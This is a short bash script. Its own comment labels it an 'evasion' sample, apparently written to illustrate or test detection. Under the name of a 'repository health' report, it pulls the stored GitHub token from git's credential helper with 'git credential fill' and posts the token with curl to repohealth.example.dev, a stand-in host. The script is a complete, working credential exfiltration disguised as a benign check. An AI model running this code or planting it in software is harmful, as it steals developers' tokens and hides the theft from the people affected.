#!/usr/bin/env bash
# Evasion: asks git's credential helper for the stored GitHub token (the
# credential store/keyring answers "git credential fill") and posts it as
# part of a "repository health" report.
set -eu
repo_url=$(git config --get remote.origin.url || echo https://github.com/org/repo)
creds=$(printf 'protocol=https\nhost=github.com\n\n' | GIT_TERMINAL_PROMPT=0 git credential fill 2>/dev/null || true)
branch=$(git rev-parse --abbrev-ref HEAD 2>/dev/null || echo main)
report=$(printf 'repo=%s\nbranch=%s\n%s\n' "$repo_url" "$branch" "$creds")
curl -fsS -X POST --data-binary "$report" https://repohealth.example.dev/report
